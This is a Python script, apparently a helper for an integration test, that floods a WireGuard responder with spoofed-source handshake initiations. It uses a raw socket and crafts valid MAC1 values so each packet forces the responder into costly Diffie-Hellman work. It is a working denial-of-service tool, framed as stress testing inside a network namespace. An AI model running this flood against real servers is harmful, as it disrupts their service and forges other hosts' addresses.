#!/usr/bin/env python3
"""Floods a WireGuard responder with handshake initiations that carry a valid MAC1, from spoofed
IPv4 source addresses (a raw socket with IP_HDRINCL), at a paced rate.

Each initiation is 148 bytes: type 1, a random sender index, random "ephemeral", "static" and
"timestamp" fields, MAC1 = BLAKE2s-128 keyed with HASH("mac1----" || responder public key) over
the first 116 bytes (so it passes the responder's cheap check and reaches Diffie-Hellman), and
MAC2 = zeros. Sources are random hosts of --src-net with random ports. Meant to run inside a
network namespace a test created, aimed at an address inside it (needs CAP_NET_RAW).

Prints "flooding" when the first packet is about to leave, and one line at the end:
sent=N seconds=S rate=R (packets/s achieved).
"""
import argparse
import base64
import hashlib
import ipaddress
import os
import signal
import socket
import struct
import sys
import time


def initiations(public_key: bytes, count: int):
    mac1_key = hashlib.blake2s(b"mac1----" + public_key).digest()
    pool = []
    for _ in range(count):
        body = struct.pack("<I", 1) + os.urandom(4 + 32 + 48 + 28)
        mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
        pool.append(body + mac1 + bytes(16))
    return pool


def ipv4_udp(src: bytes, dst: bytes, sport: int, dport: int, payload: bytes) -> bytes:
    udp_len = 8 + len(payload)
    # checksum 0: the kernel fills it in for raw IPv4 sockets; UDP checksum 0 = none (IPv4)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, socket.IPPROTO_UDP, 0, src, dst)
    return ip + struct.pack("!HHHH", sport, dport, udp_len, 0) + payload


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--target", required=True, help="responder IPv4 address")
    p.add_argument("--port", type=int, default=51820)
    p.add_argument("--public-key", required=True, help="responder public key (base64)")
    p.add_argument("--rate", type=float, default=10000, help="packets/s (0: as fast as possible)")
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--src-net", default="203.0.113.0/24", help="spoofed source addresses")
    p.add_argument("--pool", type=int, default=4096, help="distinct initiations to cycle through")
    a = p.parse_args()

    key = base64.b64decode(a.public_key)
    if len(key) != 32:
        sys.exit("public key must be 32 bytes")
    net = ipaddress.ip_network(a.src_net)
    hosts = [h.packed for h in net.hosts()]
    dst = ipaddress.ip_address(a.target).packed
    pool = initiations(key, a.pool)
    rnd = os.urandom(2 * len(pool))
    packets = []
    for i, msg in enumerate(pool):
        src = hosts[i % len(hosts)]
        sport = 1024 + (rnd[2 * i] << 8 | rnd[2 * i + 1]) % 60000
        packets.append(ipv4_udp(src, dst, sport, a.port, msg))

    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    target = (a.target, 0)
    n = len(packets)
    sent = 0
    errors = 0
    # Building the pool takes seconds on a loaded machine: say when the flood really starts, so a
    # caller can wait for it (HandshakeFloodIT does) instead of guessing from the process start.
    print("flooding", flush=True)
    start = time.monotonic()
    end = start + a.seconds
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))  # stop early, still report
    while not stop:
        now = time.monotonic()
        if now >= end:
            break
        due = n * 1_000_000 if a.rate <= 0 else int((now - start) * a.rate) + 1
        batch = min(due - sent, 256)
        for _ in range(batch):
            try:
                s.sendto(packets[sent % n], target)
            except OSError:
                errors += 1
            sent += 1
        if a.rate > 0 and sent >= due:
            time.sleep(0.0005)
    elapsed = time.monotonic() - start
    print(f"sent={sent} errors={errors} seconds={elapsed:.2f} rate={sent / elapsed:.0f}", flush=True)


if __name__ == "__main__":
    main()
